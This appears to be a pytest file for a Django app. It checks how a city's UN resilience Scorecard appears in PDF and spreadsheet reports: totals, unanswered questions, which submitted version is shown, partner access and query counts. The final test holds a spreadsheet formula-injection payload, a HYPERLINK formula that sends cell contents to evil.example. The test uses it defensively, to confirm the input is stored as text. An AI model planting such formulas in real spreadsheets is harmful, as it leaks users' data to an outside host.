"""The city's UN Scorecard in the SMR report (PDF, read back with pdftotext) and in the assessment
spreadsheet (read back with openpyxl): which Scorecard, its totals and answers, and who sees it."""

import io
import re

import pytest
from django.db import connection
from django.template.loader import render_to_string
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Partner
from assessments import services
from assessments.access import get_assessment
from reports.builder import report_context
from reports.templatetags.report_text import limit
from scorecard import services as scorecard_services

from . import pdf_text

VERIFICATION = "Glasgow Resilience Strategy 2016 and its action plan"  # P1.1, score 3
INSTITUTION = "Civil Contingencies Unit"  # P1.2, a real score of 0
ACTIONS = "Flood defence survey of the Clyde corridor"  # P8.2, score 2


def _squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


def _pdf(client, user, assessment) -> str:
    client.force_login(user)
    response = client.get(reverse("reports:pdf", args=["glasgow", assessment.pk]))
    assert response.status_code == 200
    return " ".join(" ".join(page.split()) for page in pdf_text.pages(response.content))


def _answer(scorecard, ref: str, user, **values) -> None:
    answer = scorecard.answers.select_related("question").get(question__ref=ref)
    scorecard_services.save_answer(answer, user, **values)


@pytest.fixture
def scorecard(catalogue, city, editor):
    """A Scorecard with three answers (3, 0 and 2: 5 of 141) and 44 questions unanswered."""
    sc = scorecard_services.start_scorecard(city, user=editor, title="Scorecard workshop 2026")
    _answer(sc, "P1.1", editor, score=3, verification=VERIFICATION)
    _answer(sc, "P1.2", editor, score=0, institution=INSTITUTION)
    _answer(sc, "P8.2", editor, score=2, actions=ACTIONS, timescale="2028")
    return sc


@pytest.mark.pdf
def test_the_report_shows_the_scorecard_totals_and_the_citys_answers(
    client, assessment, scorecard, viewer
):
    """Catches a report without the Scorecard, unanswered questions printed as 0, or the
    city's answer texts left out."""
    text = _pdf(client, viewer, assessment)
    section = text.split("UN Scorecard (preliminary level)")[-1]
    assert "Total 5 of 141" in section
    assert "3 questions answered, 44 not answered (not counted as 0)" in section
    assert "Scorecard workshop 2026" in section and "not signed off" in section
    squashed = _squash(section)
    # Per Essential: score / maximum, then how many are not answered.
    assert _squash("E1 Organise for disaster resilience 3 / 9 1") in squashed
    assert _squash("E8 Increase infrastructure resilience 2 / 27 8") in squashed
    assert _squash(f"Means of verification: {VERIFICATION}") in squashed
    assert _squash(f"Responsible institution: {INSTITUTION}") in squashed
    assert _squash(f"Actions to achieve maximum resilience: {ACTIONS}") in squashed
    # P1.2's real 0 is a score; P1.3 was not answered and says so instead of 0.
    p12 = squashed.split("P1.2")[1].split("P1.3")[0]
    p13 = squashed.split("P1.3")[1].split("P2.1")[0]
    assert "0/3" in p12
    assert "notanswered" in p13 and "0/3" not in p13
    # A score says what it means, in the workbook's words, not only "2 / 3".
    p82 = squashed.split("P8.2")[1].split("P8.3")[0]
    assert _squash("2 / 3 2 – In most cases protective infrastructure is in place") in p82


@pytest.mark.pdf
def test_the_latest_submitted_scorecard_is_shown_before_a_newer_draft(
    client, assessment, scorecard, editor, city
):
    """Catches the report taking the latest Scorecard whatever its status."""
    submitted = scorecard_services.submit(scorecard, editor)
    draft = scorecard_services.draft_for(city, editor)  # carries the answers forward
    _answer(draft, "P1.1", editor, score=1)
    text = _pdf(client, editor, assessment)
    section = text.split("UN Scorecard (preliminary level)")[-1]
    assert "Total 5 of 141" in section and "Total 3 of 141" not in section
    assert f"submitted on {submitted.submitted_at:%-d %b %Y}" in section


@pytest.mark.pdf
def test_a_city_without_a_scorecard_is_told_where_to_record_one(client, assessment, viewer):
    text = _pdf(client, viewer, assessment)
    section = text.split("UN Scorecard (preliminary level)")[-1]
    assert "No UN Scorecard assessment has been recorded for Glasgow" in section
    assert "import the official UNDRR workbook" in section


def test_long_answers_are_cut_and_point_to_the_app(assessment, scorecard, editor):
    """Catches an answer of 5,000 characters printed whole in a 47-row table."""
    _answer(scorecard, "P2.1", editor, score=1, verification="word " * 1000)
    html = render_to_string("reports/assessment_report.html", report_context(assessment))
    assert "… (continued in the app)" in html
    assert "word " * 1000 not in html


def test_a_cut_text_ends_between_words_unless_the_word_is_an_address():
    """Catches "interdepende… (continued in the app)": a word printed half reads as a typo."""
    more = "… (continued in the app)"
    assert limit("The partnership meets quarterly", 20) == f"The partnership{more}"
    assert limit("one two three", 7) == f"one two{more}"
    address = "see https://example.org/" + "a" * 100
    assert limit(address, 50) == f"see https://example.org/{'a' * 26}{more}"
    assert limit("short", 20) == "short"


@pytest.fixture
def shared(assessment, scorecard, partner, editor):
    """The SMR assessment submitted and shared with the partner; the Scorecard submitted but
    not shared with anyone."""
    submitted = services.submit(assessment, editor)
    services.share(submitted, partner, editor)
    return submitted, scorecard_services.submit(scorecard, editor)


@pytest.mark.pdf
def test_a_partner_sees_no_scorecard_the_city_did_not_share(client, shared, editor, partner_user):
    """Catches the Scorecard printed for anyone who may read the SMR report, and a share with
    someone else's organisation taken for the reader's."""
    assessment, scorecard = shared
    other = Partner.objects.create(name="UNDRR", slug="undrr")
    scorecard_services.share(scorecard, other, editor)
    text = _pdf(client, partner_user, assessment)
    section = text.split("UN Scorecard (preliminary level)")[-1]
    assert "No UN Scorecard assessment has been shared with your organisation" in section
    for private in ("Total 5 of 141", VERIFICATION, INSTITUTION, ACTIONS):
        assert private not in text, private


@pytest.mark.pdf
def test_a_partner_sees_the_scorecard_the_city_shared(
    client, shared, partner, editor, partner_user
):
    assessment, scorecard = shared
    scorecard_services.share(scorecard, partner, editor)
    text = _pdf(client, partner_user, assessment)
    assert "Total 5 of 141" in text and _squash(VERIFICATION) in _squash(text)


def _sheet(client, user, assessment):
    client.force_login(user)
    response = client.get(reverse("reports:xlsx", args=["glasgow", assessment.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    return list(book["Scorecard"].iter_rows(values_only=True))


def test_the_xlsx_scorecard_sheet_has_numbers_and_leaves_unanswered_empty(
    client, assessment, scorecard, viewer
):
    """Catches scores written as text, an unanswered question written as 0 (the official
    workbook's trap), and Essential totals missing."""
    rows = _sheet(client, viewer, assessment)
    header = rows[0]
    assert header[:6] == ("Level", "Ref", "Name", "Score", "Maximum", "Not answered")
    by_ref = {r[1]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    overall = rows[1]
    assert overall[0] == "Overall" and overall[3:6] == (5, 141, 44)
    assert "Scorecard workshop 2026" in overall[2]
    assert (by_ref["E1"]["Score"], by_ref["E1"]["Maximum"], by_ref["E1"]["Not answered"]) == (
        3, 9, 1,
    )  # fmt: skip
    assert (by_ref["E8"]["Score"], by_ref["E8"]["Maximum"]) == (2, 27)
    assert by_ref["P1.1"]["Score"] == 3
    assert by_ref["P1.1"]["Means of verification"] == VERIFICATION
    assert by_ref["P1.2"]["Score"] == 0 and by_ref["P1.2"]["Responsible institution"] == INSTITUTION
    assert by_ref["P8.2"]["Actions to achieve maximum resilience"] == ACTIONS
    assert by_ref["P8.2"]["Timescale"] == "2028"
    assert by_ref["P1.3"]["Score"] is None  # not answered: empty, not 0
    assert by_ref["P1.3"]["Name"] == "Integration"
    questions = [r for r in rows[1:] if r[0] == "Question"]
    assert len(questions) == 47 and sum(1 for r in questions if r[3] is None) == 44


def test_the_xlsx_gives_a_partner_no_scorecard_the_city_did_not_share(
    client, shared, partner, editor, partner_user
):
    assessment, scorecard = shared
    rows = _sheet(client, partner_user, assessment)
    assert rows[1:] == [
        ("Overall", None, "No UN Scorecard assessment has been shared with your organisation.")
        + (None,) * 8
    ]
    scorecard_services.share(scorecard, partner, editor)
    rows = _sheet(client, partner_user, assessment)
    assert rows[1][3:6] == (5, 141, 44)


def _report_queries(assessment, user) -> int:
    _assessment, access = get_assessment(user, "glasgow", assessment.pk)
    with CaptureQueriesContext(connection) as ctx:
        context = report_context(assessment, access, user)
        render_to_string("reports/assessment_report.html", context)
    return len(ctx.captured_queries)


def test_the_scorecard_adds_the_same_few_queries_however_many_answers(
    assessment, scorecard, viewer
):
    """Catches a query per question or per answer (a lazy question or Essential in the table)."""
    _report_queries(assessment, viewer)  # the model structure is cached from the first on
    three_answers = _report_queries(assessment, viewer)
    scorecard.answers.update(score=2, verification="Seen", institution="City")
    every_answer = _report_queries(assessment, viewer)
    scorecard.delete()
    none = _report_queries(assessment, viewer)
    # 13: the indicators chapter (issue 29) adds one, the city's latest values; 14: the peer
    # review chapter (issue 30) one, the assessment's returned reviews.
    assert every_answer == three_answers <= 14
    # The reader's access to the Scorecard, and its answers with questions and Essentials.
    assert every_answer - none == 2


def test_a_scorecard_answer_that_looks_like_a_formula_stays_text(
    client, assessment, scorecard, editor
):
    """Catches the sheet's texts written around rendering.sheets, where "=" makes a formula."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    _answer(scorecard, "P3.1", editor, score=1, verification=formula)
    client.force_login(editor)
    response = client.get(reverse("reports:xlsx", args=["glasgow", assessment.pk]))
    sheet = load_workbook(io.BytesIO(response.content))["Scorecard"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "P3.1")
    cell = row[header.index("Means of verification")]
    assert cell.data_type == "s" and cell.value == formula
